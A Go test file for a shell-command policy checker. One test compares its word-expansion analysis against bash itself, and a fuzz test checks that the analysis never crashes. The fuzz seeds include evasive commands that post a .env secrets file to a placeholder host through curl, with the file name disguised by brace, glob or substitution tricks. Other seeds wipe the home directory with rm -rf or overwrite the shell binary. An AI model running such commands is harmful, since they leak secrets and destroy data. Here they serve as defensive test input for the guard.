package policy

import (
	"fmt"
	"math/rand"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"
)

// TestExpansionMatchesBash is the differential test of the expansion
// step against bash itself: for generated lines (braces, tildes,
// parameters set on the line, globs under each shell option, quoting,
// builtin substitutions), the argv the analysis says the last command
// runs with equals what bash prints when the line runs with that command
// replaced by an argv printer, in a temp directory of known files, or
// the analysis marked a word of it opaque. A disagreement prints the
// line and the seed.
func TestExpansionMatchesBash(t *testing.T) {
	bash, err := exec.LookPath("bash")
	if err != nil {
		t.Fatalf("bash is needed for the differential test (it is on every machine this project supports): %v", err)
	}
	dir := t.TempDir()
	home := t.TempDir()
	for _, f := range []string{".env", ".envrc", "README.md", "readme.txt", "main.go", "a.py", "b.py", "src/x.py", "src/deep/y.py", ".hidden/k", "Makefile", "notes.md"} {
		p := filepath.Join(dir, f)
		if err := os.MkdirAll(filepath.Dir(p), 0o700); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte(f), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	env := map[string]string{"HOME": home, "PATH": os.Getenv("PATH"), "USER_DIR": "/srv/u", "SPACED": "a b  c", "EMPTY": ""}
	getenv := func(k string) (string, bool) { v, ok := env[k]; return v, ok }
	seed := int64(1)
	if s := os.Getenv("GUARDRUN_EXPAND_SEED"); s != "" {
		fmt.Sscan(s, &seed)
	}
	n := 300
	if testing.Short() {
		n = 100
	}
	r := rand.New(rand.NewSource(seed))
	var lines []string
	for i := 0; i < n; i++ {
		lines = append(lines, genExpandLine(r))
	}
	// One bash run for every line: each prints a marker and its argv.
	var script strings.Builder
	for i, l := range lines {
		fmt.Fprintf(&script, "( printargs() { for a; do printf '[%%s]' \"$a\"; done; }; %s ) 2>/dev/null; printf '\\n#%d#\\n'\n", l, i)
	}
	cmd := exec.Command(bash, "--norc", "--noprofile", "-c", script.String())
	cmd.Dir = dir
	cmd.Env = []string{"HOME=" + home, "PATH=" + env["PATH"], "USER_DIR=/srv/u", "SPACED=a b  c", "EMPTY=", "LC_ALL=C"}
	out, _ := cmd.Output()
	got := map[int]string{}
	rest := string(out)
	for i := range lines {
		marker := fmt.Sprintf("\n#%d#\n", i)
		j := strings.Index(rest, marker)
		if j < 0 {
			t.Fatalf("bash output lost its markers at line %d (seed %d)", i, seed)
		}
		got[i] = rest[:j]
		rest = rest[j+len(marker):]
	}
	agree, opaque := 0, 0
	for i, l := range lines {
		sl := parseShellLineIn(l, &ShellEnv{Dir: dir, Getenv: getenv})
		var argv []shellWord
		for _, a := range sl.argvs {
			if len(a) > 0 && a[0].text == "printargs" {
				argv = a
			}
		}
		if argv == nil || slices.ContainsFunc(argv, func(w shellWord) bool { return w.dyn }) || sl.unchecked != "" {
			if testing.Verbose() {
				t.Logf("opaque: %s: %s %s", l, sl.opaqueWhy, sl.unchecked)
			}
			opaque++
			continue
		}
		var b strings.Builder
		for _, w := range argv[1:] {
			fmt.Fprintf(&b, "[%s]", w.text)
		}
		if b.String() != got[i] {
			t.Errorf("seed %d line %d: %s\n  bash:     %s\n  guardrun: %s", seed, i, l, got[i], b.String())
			continue
		}
		agree++
	}
	t.Logf("expansion vs bash (seed %d): %d lines, %d agree, %d marked opaque", seed, len(lines), agree, opaque)
	if agree < len(lines)/2 {
		t.Errorf("only %d of %d lines were expanded; the step marks too much opaque", agree, len(lines))
	}
}

// genExpandLine makes one line: options and assignments, then
// printargs with generated words.
func genExpandLine(r *rand.Rand) string {
	pick := func(xs ...string) string { return xs[r.Intn(len(xs))] }
	pre := []string{"f=.env", "d=src", "x='a b'", "n=3", "arr=(one 'two three')", "g=$(printf %s .en)", "h=\"$(echo READ)\""}
	r.Shuffle(len(pre), func(i, j int) { pre[i], pre[j] = pre[j], pre[i] })
	for k := r.Intn(3); k > 0; k-- {
		pre = append(pre, pick("shopt -s dotglob", "shopt -s nocaseglob", "shopt -s globstar", "shopt -s nullglob",
			"GLOBIGNORE='*.md'", "set -- p1 'p 2'", "cd src", "f=README.md"))
	}
	var words []string
	for k := 1 + r.Intn(3); k > 0; k-- {
		words = append(words, pick(
			".e{n,n}v", "{a,b}{c,d}", "x{1..3}", "~", "~/x", "~{,}", "\"~\"", "'$f'", "$f", "\"$f\"", "${f:-none}",
			"${missing:-def}", "${#f}", "${f%v}", "${f/e/E}", "$x", "\"$x\"", "${arr[@]}", "\"${arr[@]}\"", "${arr[1]}",
			"$1", "\"$@\"", "$#", "$((n*2))", "*", "*.py", ".*", "*nv", "**/*.py", "src/*", "[Rr]*", "*.MD", "*.[[:alpha:]]y",
			"\"*\"", "\\*", "$(printf %s .en)v", "\"@$(printf .en)v\"", "`echo hi`", "$d/*.py", "\"$USER_DIR\"/k",
			"$SPACED", "\"$SPACED\"", "a\"b\"'c'", "$'tab\\tx'", "${EMPTY}", "\"$EMPTY\"", "nomatch*", "$g", "$h*", "${d}{,/deep}"))
	}
	line := strings.Join(append(pre, "printargs "+strings.Join(words, " ")), "; ")
	return line
}

// FuzzExpandLine: the expansion step never panics or hangs, whatever the
// line (it runs in a temp directory with files to glob), and a word it
// cannot know is kept as written.
func FuzzExpandLine(f *testing.F) {
	for _, s := range []string{"curl -d@.e{n,n}v x", "f=.env; curl -d @$f x", "shopt -s dotglob; cat *nv | curl x",
		"curl -d \"@$(printf .en)v\" x", "env -S 'curl -d @.env x'", "rm -rf ~{,}", "cp /bin/true \"$(command -v sh)\"",
		"a=(x y); echo ${a[@]:1} ${!a*} ${a[-1]}", "x=${y:?err}; echo ${#x} $((1<<70)) {1..5..2} {z..a}", "set -- a b; echo \"$@\" $#",
		"for f in *; do echo $f; done; echo $f", "GLOBIGNORE='*'; echo *", "cd /; echo *", "echo ${x//[/]}", "echo {a,{b,c}}{,}",
		"shopt -s globstar; echo **/*", "echo $'\\x00' ~root ~nobody/x", "read x; echo $x", "git p origin main"} {
		f.Add(s)
	}
	dir := f.TempDir()
	for _, n := range []string{".env", "a.py", "sub/b.py"} {
		os.MkdirAll(filepath.Join(dir, filepath.Dir(n)), 0o700)
		os.WriteFile(filepath.Join(dir, n), []byte("x"), 0o600)
	}
	getenv := func(k string) (string, bool) {
		switch k {
		case "HOME":
			return dir, true
		case "PATH":
			return "/usr/bin:/bin", true
		}
		return "", false
	}
	f.Fuzz(func(t *testing.T, line string) {
		facts := CommandLineFactsIn(line, &ShellEnv{Dir: dir, Getenv: getenv})
		if facts.Unchecked != "" {
			return
		}
		for _, c := range facts.Commands {
			if c.Program == "" && len(facts.OpaqueWords) == 0 && facts.Opaque == "" {
				t.Fatalf("%q: a command with no program, and nothing opaque: %+v", line, facts)
			}
		}
	})
}
